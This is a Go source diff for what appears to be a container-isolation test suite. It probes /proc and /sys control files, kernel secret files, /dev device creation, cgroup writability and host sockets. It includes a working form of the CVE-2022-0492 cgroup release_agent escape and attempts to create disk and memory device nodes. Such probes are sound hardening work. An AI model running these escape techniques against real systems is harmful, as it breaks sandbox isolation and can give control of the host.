@@ -1,0 +1,196 @@
+//go:build linux
+
+package escape
+
+import (
+	"bytes"
+	"fmt"
+	"io/fs"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// secretFiles of /proc and /sys have to read as empty, or not at all.
+var secretFiles = []string{"/proc/kcore", "/proc/keys", "/proc/kallsyms", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats", "/proc/kmsg", "/proc/interrupts"}
+
+// levers are files by which a box would rule the machine. Opening changes nothing.
+var levers = []string{"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom",
+	"/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/ns_last_pid", "/proc/irq/default_smp_affinity", "/proc/mtrr", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled"}
+
+// tryProc checks that /proc is the kernel's own, that its levers cannot be opened
+// for writing, and that its secrets read as empty.
+func tryProc(a *attack) {
+	var st unix.Statfs_t
+	if err := unix.Statfs("/proc", &st); err != nil || st.Type != unix.PROC_SUPER_MAGIC {
+		a.reached("a /proc that is not the kernel's: %#x, %v", st.Type, err)
+	}
+	for _, name := range levers {
+		if fd, err := unix.Open(name, unix.O_WRONLY, 0); err == nil {
+			unix.Close(fd)
+			a.reached("%s for writing", name)
+		}
+	}
+	_ = filepath.WalkDir("/proc/sys/", func(p string, d fs.DirEntry, err error) error {
+		if err == nil && d.Type().IsRegular() {
+			if fd, err := unix.Open(p, unix.O_WRONLY, 0); err == nil {
+				unix.Close(fd)
+				a.reached("%s for writing", p)
+			}
+		}
+		return nil
+	})
+	for _, name := range secretFiles {
+		fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK, 0)
+		if err != nil {
+			continue
+		}
+		if n, err := unix.Read(fd, make([]byte, 64)); err == nil && n > 0 {
+			a.reached("what %s says", name)
+		}
+		unix.Close(fd)
+	}
+}
+
+// tryDev checks that the devices are the real ones, and no others.
+func tryDev(a *attack) {
+	want := map[string]string{"null": "1:3", "zero": "1:5", "full": "1:7", "random": "1:8", "urandom": "1:9", "tty": "5:0"}
+	_ = filepath.WalkDir("/dev/", func(p string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() || d.Type()&fs.ModeSymlink != 0 {
+			return nil
+		}
+		var st unix.Stat_t
+		_ = unix.Lstat(p, &st)
+		name, numbers := strings.TrimPrefix(p, "/dev/"), fmt.Sprintf("%d:%d", unix.Major(st.Rdev), unix.Minor(st.Rdev))
+		if want[name] != numbers && !strings.HasPrefix(name, "pts/") {
+			a.reached("%s, mode %o, device %s", p, st.Mode, numbers)
+		}
+		delete(want, name)
+		return nil
+	})
+	if len(want) > 0 {
+		a.reached("a /dev without %v", want)
+	}
+	for _, dev := range []int{int(unix.Mkdev(1, 1)), int(unix.Mkdev(254, 0)), int(unix.Mkdev(8, 0))} { // memory, disks
+		for _, at := range []string{"/tmp/disk", "/dev/shm/disk", "/mnt/disk"} {
+			if unix.Mknod(at, unix.S_IFCHR|0o666, dev) != nil && unix.Mknod(at, unix.S_IFBLK|0o666, dev) != nil {
+				continue
+			}
+			if fd, err := unix.Open(at, unix.O_RDONLY, 0); err == nil {
+				unix.Close(fd)
+				a.reached("a device made at %s", at)
+			}
+			_ = os.Remove(at)
+		}
+	}
+}
+
+// tryCgroup looks for a place in the cgroup tree that can be written to (CVE-2023-25809).
+func tryCgroup(a *attack) {
+	for _, line := range lines("/proc/self/cgroup") {
+		if w := strings.SplitN(line, ":", 3); len(w) == 3 && w[2] != "/" {
+			a.reached("the host's path of its cgroup: %s", line)
+		}
+	}
+	_ = filepath.WalkDir("/sys/fs/cgroup/", func(p string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return nil
+		}
+		if unix.Access(p, unix.W_OK) == nil {
+			a.reached("%s, which can be written to", p)
+			return fs.SkipAll
+		}
+		return nil
+	})
+	for _, dir := range append(listedBelow("/sys/fs/cgroup"), "/sys/fs/cgroup") {
+		if os.Mkdir(dir+"/escape", 0o755) == nil {
+			_ = os.Remove(dir + "/escape")
+			a.reached("a cgroup made in %s", dir)
+		}
+		for _, f := range []string{"release_agent", "memory.max", "memory.limit_in_bytes", "cgroup.procs"} {
+			if fd, err := unix.Open(dir+"/"+f, unix.O_WRONLY, 0); err == nil {
+				unix.Close(fd)
+				a.reached("%s/%s for writing", dir, f)
+			}
+		}
+	}
+}
+
+func listedBelow(dir string) []string {
+	var all []string
+	for _, name := range listed(dir) {
+		all = append(all, dir+"/"+name)
+	}
+	return all
+}
+
+// controllers of cgroup v1, and "" for v2.
+var controllers = []string{"memory", "cpu", "cpuset", "devices", "freezer", "pids", "blkio", "rdma", "name=systemd", ""}
+
+// tryReleaseAgent mounts every hierarchy, inside new namespaces and without them, and has
+// the host run a program when a cgroup becomes empty (CVE-2022-0492).
+func tryReleaseAgent(a *attack) {
+	if len(a.words) > 1 { // inside new namespaces
+		mountAgents(a)
+		return
+	}
+	mountAgents(a)
+	cmd := again("release-agent", a.words[0], "inside")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWCGROUP | syscall.CLONE_NEWPID,
+		UidMappings: []syscall.SysProcIDMap{{Size: 1, HostID: os.Getuid()}}, GidMappings: []syscall.SysProcIDMap{{Size: 1, HostID: os.Getgid()}}}
+	out, _ := cmd.CombinedOutput() // refused where there are no new user namespaces
+	for line := range strings.Lines(string(out)) {
+		if strings.HasPrefix(line, reachedMark) {
+			fmt.Print(line)
+		}
+	}
+}
+
+func mountAgents(a *attack) {
+	for i, c := range controllers {
+		at := fmt.Sprintf("/tmp/cg%d", i)
+		if os.Mkdir(at, 0o755) != nil {
+			at = "/mnt"
+		}
+		kind := "cgroup"
+		if c == "" {
+			kind = "cgroup2"
+		}
+		if unix.Mount("none", at, kind, 0, c) != nil {
+			continue
+		}
+		if os.WriteFile(at+"/release_agent", []byte(a.words[0]), 0o644) == nil {
+			a.reached("release_agent of %q", c)
+			_ = os.WriteFile(at+"/notify_on_release", []byte("1"), 0o644)
+			_ = os.Mkdir(at+"/escape", 0o755)
+			_ = os.Remove(at + "/escape")
+			time.Sleep(100 * time.Millisecond)
+		}
+		_ = unix.Unmount(at, unix.MNT_DETACH)
+	}
+}
+
+// tryDoors connects to sockets of the host: pairs of a network and an address.
+func tryDoors(a *attack) {
+	for i := 0; i+1 < len(a.words); i += 2 {
+		network, address := a.words[i], a.words[i+1]
+		c, err := net.DialTimeout(network, address, time.Second)
+		if err != nil {
+			continue
+		}
+		if _, err := c.Write([]byte("from a box")); err == nil && network != "udp" { // udp has no answer to wait for
+			a.reached("%s %s", network, address)
+		}
+		c.Close()
+	}
+	for _, line := range lines("/proc/net/unix") {
+		if bytes.Contains([]byte(line), []byte(" @")) {
+			a.reached("a list of abstract sockets: %s", line)
+		}
+	}
+}
